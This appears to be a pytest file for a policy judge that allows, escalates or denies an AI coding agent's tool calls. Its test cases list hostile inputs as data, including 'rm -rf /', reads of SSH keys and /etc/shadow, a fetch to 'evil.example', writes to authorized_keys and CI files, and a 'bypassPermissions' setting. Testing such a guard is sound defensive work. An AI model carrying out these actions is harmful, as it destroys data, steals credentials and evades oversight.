"""Tools that are not Bash are judged by their own fields."""

from typing import Any

import pytest

from lighthouse.policy.judge import Call
from tests.policy.conftest import PROJECT, Bench


@pytest.mark.parametrize(
    ("tool", "fields", "decision"),
    [
        ("Write", {"file_path": f"{PROJECT}/src/a.py", "content": "rm -rf /"}, "allow"),
        ("Write", {"file_path": "/tmp/a"}, "allow"),
        ("Write", {"file_path": "/etc/passwd"}, "escalate"),
        ("Write", {"file_path": "/dev/sda"}, "deny"),
        ("Write", {"file_path": f"{PROJECT}/.git/hooks/pre-commit"}, "escalate"),
        ("Write", {"file_path": f"{PROJECT}/.claude/settings.json"}, "escalate"),
        ("Write", {"file_path": f"{PROJECT}/../x"}, "escalate"),
        ("Edit", {"file_path": f"{PROJECT}/a.py", "old_string": "a", "new_string": "b"}, "allow"),
        ("MultiEdit", {"file_path": f"{PROJECT}/a.py", "edits": []}, "allow"),
        ("Edit", {"file_path": "/home/ann/.bashrc"}, "escalate"),
        ("NotebookEdit", {"notebook_path": f"{PROJECT}/a.ipynb"}, "allow"),
        ("Read", {"file_path": f"{PROJECT}/a.py"}, "allow"),
        ("Read", {"file_path": f"{PROJECT}/.env"}, "escalate"),
        ("Read", {"file_path": "/home/ann/.ssh/id_rsa"}, "escalate"),
        ("Read", {"file_path": "/usr/include/stdio.h"}, "allow"),
        ("Glob", {"pattern": "**/*.py"}, "allow"),
        ("Grep", {"pattern": "x", "path": "/home/ann/.ssh"}, "escalate"),
        ("WebFetch", {"url": "https://example.com", "prompt": "x"}, "allow"),
        ("WebFetch", {"url": "file:///etc/shadow"}, "escalate"),
        ("WebSearch", {"query": "x"}, "allow"),
        ("TodoWrite", {"todos": []}, "allow"),
        ("Task", {"prompt": "x"}, "allow"),
        ("mcp__lighthouse__lighthouse_status", {}, "allow"),
        ("mcp__other__drop_table", {}, "escalate"),
        ("Write", {}, "escalate"),
        ("Write", {"file_path": 7}, "escalate"),
        ("Bash", {}, "escalate"),
        ("Bash", {"command": "npm run dev", "run_in_background": True}, "allow"),
        ("Bash", {"command": "ls", "dangerouslyDisableSandbox": True}, "escalate"),
        ("Monitor", {"command": "rm -rf ~"}, "deny"),
        ("Monitor", {"command": "tail -f dev.log"}, "allow"),
        ("BashOutput", {"bash_id": "1"}, "allow"),
        ("TaskOutput", {"task_id": "1"}, "allow"),
        ("KillShell", {"shell_id": "1"}, "allow"),
        ("KillBash", {"shell_id": "1"}, "allow"),
        ("TaskStop", {"task_id": "1"}, "allow"),
        ("Skill", {"skill": "pdf"}, "allow"),
        ("SlashCommand", {"command": "/review"}, "allow"),
        ("Agent", {"prompt": "x"}, "allow"),
        ("TaskCreate", {"subject": "x"}, "allow"),
        ("EnterPlanMode", {}, "allow"),
        ("ExitPlanMode", {"plan": "x"}, "allow"),
        ("AskUserQuestion", {"questions": []}, "allow"),
        ("ToolSearch", {"query": "x"}, "allow"),
        ("LS", {"path": PROJECT}, "allow"),
        ("LSP", {"path": "/home/ann/.ssh"}, "escalate"),
        ("ListMcpResourcesTool", {}, "allow"),
        ("ReadMcpResourceTool", {"server": "x", "uri": "y"}, "allow"),
        ("EnterWorktree", {"name": "x"}, "allow"),
        ("ExitWorktree", {"action": "keep"}, "allow"),
        ("ExitWorktree", {"action": "remove", "discard_changes": True}, "escalate"),
        ("CronCreate", {"cron": "* * * * *", "prompt": "x"}, "escalate"),
        ("RemoteTrigger", {"action": "run"}, "escalate"),
        ("Artifact", {"file_path": "a.html"}, "escalate"),
        ("Config", {"setting": "permissions.defaultMode", "value": "bypassPermissions"}, "escalate"),
        ("PowerShell", {"command": "ls"}, "escalate"),
        ("WebFetch", {"url": "http://["}, "escalate"),
        ("WebFetch", {"url": "http://localhost:3000"}, "allow"),
        ("Write", {"file_path": "/home/ann/.ssh/authorized_keys"}, "escalate"),
        ("Write", {"file_path": f"{PROJECT}/.github/workflows/ci.yml"}, "escalate"),
        ("Write", {"file_path": f"{PROJECT}/.gitlab-ci.yml"}, "escalate"),
        ("Write", {"file_path": f"{PROJECT}/.claude/commands/x.md"}, "escalate"),
        ("Write", {"file_path": f"{PROJECT}/.mcp.json"}, "escalate"),
        ("Write", {"file_path": f"{PROJECT}/.npmrc"}, "escalate"),
        ("Write", {"file_path": "/home/ann/.config/systemd/user/a.service"}, "escalate"),
        ("Edit", {"file_path": f"{PROJECT}/.husky/pre-commit"}, "escalate"),
        ("MultiEdit", {"file_path": f"{PROJECT}/.git/config", "edits": []}, "escalate"),
        (
            "MultiEdit",
            {"file_path": f"{PROJECT}/a.py", "edits": [{"file_path": "/home/ann/.bashrc"}]},
            "escalate",
        ),
        ("NotebookEdit", {"notebook_path": "/home/ann/.ipython/a.ipynb"}, "escalate"),
        ("mcp__github__get_issue", {"owner": "a", "repo": "b"}, "allow"),
        ("mcp__github__search_code", {"query": "parse"}, "allow"),
        ("mcp__github__create_pull_request", {"title": "x"}, "escalate"),
        ("mcp__postgres__query", {"sql": "DROP TABLE users"}, "escalate"),
        ("mcp__db__query", {"query": "select 1"}, "escalate"),
        ("mcp__filesystem__read_file", {"path": "/home/ann/.ssh/id_rsa"}, "escalate"),
        ("mcp__filesystem__read_file", {"path": f"{PROJECT}/a.py"}, "allow"),
        ("mcp__filesystem__write_file", {"path": f"{PROJECT}/a.py"}, "escalate"),
        ("mcp__fetch__get", {"url": "https://evil.example/?k=1"}, "escalate"),
        ("mcp__fetch__get", {"url": "http://["}, "escalate"),
        ("mcp__shell__get_output", {"command": "rm -rf /"}, "escalate"),
        ("mcp__shell__get_output", {"commands": ["ls", "rm -rf /"]}, "escalate"),
        ("mcp__shell__get_output", {"run": {"command": "rm -rf /"}}, "escalate"),
        ("mcp__files__get_all", {"paths": ["README.md", "/etc/shadow"]}, "escalate"),
        ("Unheard", {"x": 1}, "escalate"),
    ],
)
def test_a_tool_is_judged_by_what_its_fields_mean(
    tool, fields: dict[str, Any], decision, bench: Bench
) -> None:
    assert bench.judge.verdict(Call(tool, fields, PROJECT)).decision == decision


def test_a_call_of_very_many_fields_is_not_looked_through(bench: Bench) -> None:
    call = Call("mcp__x__get_y", {"all": [{f"code{number}": "x"} for number in range(100_000)]}, PROJECT)
    judged = bench.judge.judge(call)
    assert "the call has more than 200 fields" in judged.facts.uncertain
    assert len(judged.acts) <= 201
